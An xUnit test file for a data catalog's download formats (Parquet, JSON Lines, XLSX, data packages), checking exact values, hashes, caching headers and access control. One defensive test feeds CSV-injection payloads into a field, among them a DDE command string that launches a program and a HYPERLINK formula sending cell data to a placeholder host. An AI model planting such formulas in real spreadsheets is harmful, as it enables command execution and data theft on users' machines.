using System.IO.Compression;
using System.Net;
using System.Net.Http.Headers;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json.Nodes;
using System.Xml.Linq;
using DuckDB.NET.Data;
using OpenData.Core.Packages;
using OpenData.Core.Versions;
using Xunit;

namespace Catalog.Api.Tests.Downloads;

/// <summary>A version in every form holds the same values as its canonical CSV: no row fewer, no cent rounded, nothing that a spreadsheet would run.</summary>
public sealed class VersionFileTests(CatalogSite site)
{
    private static readonly IReadOnlyList<Field> Fields =
    [
        new() { Id = "code", Type = "text", Title = new Dictionary<string, string> { ["el"] = "Κωδικός", ["en"] = "Code" } },
        new() { Id = "=note", Type = "text" },
        new() { Id = "amount", Type = "numeric", Scale = 2, ColumnType = "value" },
        new() { Id = "long", Type = "numeric" },
        new() { Id = "count", Type = "int8" },
        new() { Id = "day", Type = "date" },
        new() { Id = "ok", Type = "bool" },
    ];

    private static readonly string?[][] Rows =
    [
        ["007", "=1+1", "1234567890123.45", "0.123456789012345678", "9007199254740993", "2016-04-29", "true"],
        ["1\r\n2", "", "-0.05", null, null, null, null],
        ["Ελλάδα, \"π\"", null, null, "12345678901234567890", "-1", "1821-03-25", "false"],
    ];

    private async Task<string> HasTableAsync(string name, bool secret = false, params string?[][] rows)
    {
        var package = await site.Data.HasPackageAsync(name, CatalogSite.Ct, draft => draft with
        {
            Private = secret, OwnerOrg = "workshop", LicenseId = "cc-by", Notes = new Dictionary<string, string> { ["en"] = "Every kind of value." },
            Resources = [new ResourceDraft { Name = "values", HasTable = true }],
        });
        await site.Data.PublishAsync(package, CatalogSite.Ct, new Table("values", Fields, ["code"], rows));
        return $"/dataset/{name}/v/1";
    }

    private Task<byte[]> BytesAsync(string path) => site.Client.GetByteArrayAsync(path, CatalogSite.Ct);

    [Fact]
    public async Task Parquet_holds_the_values_of_the_csv_with_types_that_keep_them()
    {
        var at = await HasTableAsync("forms-parquet", rows: Rows);
        var path = Path.Combine(Path.GetTempPath(), $"{Guid.NewGuid():N}.parquet");
        await File.WriteAllBytesAsync(path, await BytesAsync($"{at}/values.parquet"), CatalogSite.Ct);
        await using var duck = new DuckDBConnection("DataSource=:memory:");
        duck.Open();

        Assert.Equal(Rows.Select(row => string.Join('|', row.Select(text => text ?? "NULL"))), Query($"select * from '{path}'"));
        Assert.Equal(
            ["code VARCHAR", "=note VARCHAR", "amount DECIMAL(18,2)", "long DECIMAL(38,18)", "count BIGINT", "day DATE", "ok BOOLEAN"],
            Query($"select column_name || ' ' || column_type from (describe select * from '{path}')"));
        File.Delete(path);

        List<string> Query(string sql)
        {
            using var command = duck.CreateCommand();
            command.CommandText = $"select columns(*)::varchar from ({sql})";
            using var reader = command.ExecuteReader();
            var found = new List<string>();
            while (reader.Read())
                found.Add(string.Join('|', Enumerable.Range(0, reader.FieldCount).Select(i => reader.IsDBNull(i) ? "NULL" : Trimmed(reader.GetName(i), reader.GetString(i)))));
            return found;
        }

        // The scale of a column belongs to all its values.
        static string Trimmed(string column, string text) => column == "long" && text.Contains('.', StringComparison.Ordinal) ? text.TrimEnd('0').TrimEnd('.') : text;
    }

    [Fact]
    public async Task Json_lines_are_the_records_of_datastore_search_without_their_numbers()
    {
        var at = await HasTableAsync("forms-jsonl", rows: Rows);
        var text = Encoding.UTF8.GetString(await BytesAsync($"{at}/values.jsonl"));

        var lines = text.Split('\n');
        Assert.Equal(["", """{"code":"007","=note":"=1+1","amount":1234567890123.45,"long":0.123456789012345678,"count":9007199254740993,"day":"2016-04-29","ok":true}"""], [lines[^1], lines[0]]);
        var id = (string)(await site.ResultAsync("package_show?id=forms-jsonl"))["resources"]![0]!["id"]!;
        var records = (await site.ResultAsync($"datastore_search?resource_id={id}"))["records"]!.AsArray().Select(record =>
        {
            record!.AsObject().Remove("_id");
            return record.ToJsonString();
        });
        Assert.Equal(records, lines[..^1].Select(line => JsonNode.Parse(line)!.ToJsonString()));
    }

    [Fact]
    public async Task A_workbook_holds_no_formula_and_no_rounded_number()
    {
        var at = await HasTableAsync("forms-xlsx", rows: Rows);
        var cells = Cells(await BytesAsync($"{at}/values.xlsx"));

        Assert.Equal(["code", "'=note", "amount", "long", "count", "day", "ok"], cells[0].Select(cell => cell.Value));
        Assert.Equal([("str", "007"), ("str", "'=1+1"), ("n", "1234567890123.45"), ("str", "0.123456789012345678"), ("str", "9007199254740993")], cells[1][..5]);
        Assert.Equal([("str", "1\n2"), ("str", ""), ("str", "'-0.05")], [cells[2][0], cells[2][1], ("str", $"'{cells[2][2].Value}")]);
        Assert.Equal(("str", "1821-03-25"), cells[3][5]);   // before Excel's calendar

        var none = Cells(await BytesAsync($"{await HasTableAsync("forms-empty", rows: [])}/values.xlsx"));
        Assert.Equal(["code", "'=note", "amount", "long", "count", "day", "ok"], Assert.Single(none).Select(cell => cell.Value));
    }

    private static List<List<(string Type, string Value)>> Cells(byte[] workbook)
    {
        using var zip = new ZipArchive(new MemoryStream(workbook));
        using var sheet = zip.Entries.Single(entry => entry.FullName.StartsWith("xl/worksheets/sheet", StringComparison.Ordinal)).Open();
        var document = XDocument.Load(sheet, LoadOptions.PreserveWhitespace);
        Assert.DoesNotContain(document.Descendants(), element => element.Name.LocalName == "f");
        return [.. document.Descendants().Where(element => element.Name.LocalName == "row").Select(row => row.Elements().Select(cell =>
            ((string?)cell.Attribute("t") ?? "", cell.Value)).ToList())];
    }

    [Fact]
    public async Task A_data_package_describes_its_files_and_the_zip_holds_them()
    {
        var at = await HasTableAsync("forms-package", rows: Rows);
        var descriptor = JsonNode.Parse(await BytesAsync($"{at}/datapackage.json"))!;
        var resource = descriptor["resources"]![0]!;
        var csv = await BytesAsync($"{at}/{(string)resource["path"]!}");

        Assert.Equal(("tabular-data-package", "forms-package", "cc-by", 1), ((string)descriptor["profile"]!, (string)descriptor["name"]!, (string)descriptor["licenses"]![0]!["name"]!, descriptor["resources"]!.AsArray().Count));
        Assert.Equal((csv.Length, $"sha256:{Convert.ToHexStringLower(SHA256.HashData(csv))}"), ((int)resource["bytes"]!, (string)resource["hash"]!));
        Assert.Equal(["string", "string", "number", "number", "integer", "date", "boolean"], resource["schema"]!["fields"]!.AsArray().Select(field => (string)field!["type"]!));
        Assert.Equal(("Code", "value", "code"), ((string)resource["schema"]!["fields"]![0]!["title"]!, (string)resource["schema"]!["fields"]![2]!["columnType"]!, (string)resource["schema"]!["primaryKey"]![0]!));

        using var zip = new ZipArchive(new MemoryStream(await BytesAsync($"{at}/datapackage.zip")));
        var inside = JsonNode.Parse(Read("datapackage.json"))!["resources"]![0]!;
        Assert.Equal(csv, Read((string)inside["path"]!));
        Assert.Equal(((string)resource["hash"]!, 2), ((string)inside["hash"]!, zip.Entries.Count));

        byte[] Read(string name)
        {
            using var content = zip.GetEntry(name)!.Open();
            using var copy = new MemoryStream();
            content.CopyTo(copy);
            return copy.ToArray();
        }
    }

    [Theory]
    [InlineData("values.csv")]
    [InlineData("values.parquet")]
    [InlineData("values.jsonl")]
    [InlineData("values.xlsx")]
    [InlineData("datapackage.zip")]
    public async Task Every_form_has_length_hash_tag_and_ranges(string file)
    {
        var at = await HasTableAsync("forms-headers", rows: Rows);
        using var whole = await SendAsync(HttpMethod.Get, $"{at}/{file}");
        var bytes = await whole.Content.ReadAsByteArrayAsync(CatalogSite.Ct);
        using var head = await SendAsync(HttpMethod.Head, $"{at}/{file}");
        using var part = await SendAsync(HttpMethod.Get, $"{at}/{file}", request => request.Headers.Range = new RangeHeaderValue(2, 5));

        var hash = SHA256.HashData(bytes);
        Assert.Equal((HttpStatusCode.OK, (long?)bytes.Length), (head.StatusCode, head.Content.Headers.ContentLength));
        Assert.Equal($"sha-256=:{Convert.ToBase64String(hash)}:", head.Headers.GetValues("Repr-Digest").Single());
        Assert.Equal($"\"{Convert.ToHexStringLower(hash)}\"", whole.Headers.ETag!.ToString());
        Assert.Equal(bytes[2..6], await part.Content.ReadAsByteArrayAsync(CatalogSite.Ct));
        Assert.Equal("attachment", whole.Content.Headers.ContentDisposition!.DispositionType);
        Assert.Equal("3", head.Headers.GetValues("X-Row-Count").Single());
    }

    [Fact]
    public async Task A_descriptor_has_a_tag_and_says_how_many_rows_there_are()
    {
        var at = await HasTableAsync("forms-tag", rows: Rows);
        using var answer = await SendAsync(HttpMethod.Get, $"{at}/datapackage.json");
        using var again = await SendAsync(HttpMethod.Get, $"{at}/datapackage.json", request => request.Headers.IfNoneMatch.Add(answer.Headers.ETag!));

        Assert.Equal(3, (int)JsonNode.Parse(await answer.Content.ReadAsStringAsync(CatalogSite.Ct))!["resources"]![0]!["rows"]!);
        Assert.Equal(HttpStatusCode.NotModified, again.StatusCode);
    }

    /// <summary>OWASP, CSV injection: also in wide forms, and behind what is not seen. What a reader of the workbook takes for an escape stays what it was.</summary>
    [Theory]
    [InlineData("=1+1")]
    [InlineData("+1+1")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("\n=1+1")]
    [InlineData("\uFF1D1+1")]
    [InlineData("\uFF0B1+1")]
    [InlineData("\uFF0D1+1")]
    [InlineData("\uFF20SUM(A1)")]
    [InlineData(" =1+1")]
    [InlineData("\uFEFF=1+1")]
    [InlineData("\u00A0\u200B=1+1")]
    [InlineData("=HYPERLINK(\"http://example.org/?\"&A1,\"x\")")]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("'=1+1", "'=1+1")]
    [InlineData("a=1+1", "a=1+1")]
    [InlineData("", "")]
    [InlineData("_x003D_1+1", "_x003D_1+1")]
    [InlineData("_x000D_", "_x000D_")]
    [InlineData("</v></c><f>1+1</f>", "</v></c><f>1+1</f>")]
    public async Task A_text_that_a_spreadsheet_might_run_has_an_apostrophe_before_it(string text, string? read = null)
    {
        var at = await HasTableAsync($"forms-hostile-{Guid.NewGuid():n}", rows: [["1", text, null, null, null, null, null]]);
        var workbook = await BytesAsync($"{at}/values.xlsx");
        using var stream = new MemoryStream(workbook);

        var (type, value) = Cells(workbook)[1][1];

        Assert.Equal("str", type);
        Assert.StartsWith(read is null ? "'" : read, value.Replace("_x005F_x", "_x", StringComparison.Ordinal), StringComparison.Ordinal);
        // As Excel reads it: by another reader than the one who wrote it.
        Assert.Equal((read ?? "'" + text).ReplaceLineEndings("\n"), Unescaped(value).ReplaceLineEndings("\n"));
    }

    /// <summary>ECMA-376, 22.9.2.19: a character as its number between underscores.</summary>
    private static string Unescaped(string text) =>
        System.Text.RegularExpressions.Regex.Replace(text, "_x([0-9A-Fa-f]{4})_", match => ((char)Convert.ToInt32(match.Groups[1].Value, 16)).ToString());

    [Theory]
    [InlineData("gzip")]
    [InlineData("br")]
    public async Task A_whole_text_travels_compressed_and_says_what_it_unpacks_to(string encoding)
    {
        var at = await HasTableAsync("forms-compressed", rows: [.. Enumerable.Range(0, 500).Select(i => new[] { $"{i}", "the same words again", "1.00", null, null, null, null })]);
        var plain = await BytesAsync($"{at}/values.csv");
        using var answer = await SendAsync(HttpMethod.Get, $"{at}/values.csv", request => request.Headers.AcceptEncoding.ParseAdd(encoding));
        await using var packed = await answer.Content.ReadAsStreamAsync(CatalogSite.Ct);
        await using Stream unpacking = encoding == "br" ? new BrotliStream(packed, CompressionMode.Decompress) : new GZipStream(packed, CompressionMode.Decompress);
        using var unpacked = new MemoryStream();
        await unpacking.CopyToAsync(unpacked, CatalogSite.Ct);

        Assert.Equal((encoding, true), (answer.Content.Headers.ContentEncoding.Single(), answer.Headers.ETag!.IsWeak));
        Assert.Contains("Accept-Encoding", answer.Headers.Vary);
        Assert.Equal(plain, unpacked.ToArray());
        Assert.Equal($"sha-256=:{Convert.ToBase64String(SHA256.HashData(plain))}:", answer.Headers.GetValues("Unencoded-Digest").Single());
        using var same = await SendAsync(HttpMethod.Get, $"{at}/values.csv", request =>
        {
            request.Headers.AcceptEncoding.ParseAdd(encoding);
            request.Headers.IfNoneMatch.Add(answer.Headers.ETag!);
        });
        Assert.Equal(HttpStatusCode.NotModified, same.StatusCode);
    }

    [Theory]
    [InlineData("values.csv")]
    [InlineData("values.parquet")]
    [InlineData("values.jsonl")]
    [InlineData("values.xlsx")]
    [InlineData("datapackage.json")]
    [InlineData("datapackage.zip")]
    public async Task What_a_reader_may_not_see_no_form_shows(string file)
    {
        var at = await HasTableAsync("forms-secret", secret: true, Rows);
        using var hidden = await SendAsync(HttpMethod.Get, $"{at}/{file}");
        using var shown = await SendAsync(HttpMethod.Get, $"{at}/{file}", request => request.Headers.TryAddWithoutValidation("Authorization", site.Site.Token));

        Assert.Equal((HttpStatusCode.Forbidden, HttpStatusCode.OK), (hidden.StatusCode, shown.StatusCode));
        Assert.DoesNotContain("public", string.Join(", ", shown.Headers.GetValues("Cache-Control")), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("/dataset/trees/v/1/trees.exe", "csv, parquet")]
    [InlineData("/dataset/trees/v/1/nope.parquet", "No such version or resource")]
    [InlineData("/dataset/trees/v/77/datapackage.json", "")]
    [InlineData("/dataset/nope/v/1/datapackage.zip", "")]
    public async Task What_is_not_there_is_a_404_that_says_what_is(string path, string said)
    {
        using var answer = await SendAsync(HttpMethod.Get, path);

        Assert.Equal(HttpStatusCode.NotFound, answer.StatusCode);
        Assert.Contains(said, await answer.Content.ReadAsStringAsync(CatalogSite.Ct), StringComparison.Ordinal);
    }

    private async Task<HttpResponseMessage> SendAsync(HttpMethod method, string path, Action<HttpRequestMessage>? with = null)
    {
        using var request = new HttpRequestMessage(method, path);
        with?.Invoke(request);
        return await site.Client.SendAsync(request, CatalogSite.Ct);
    }
}
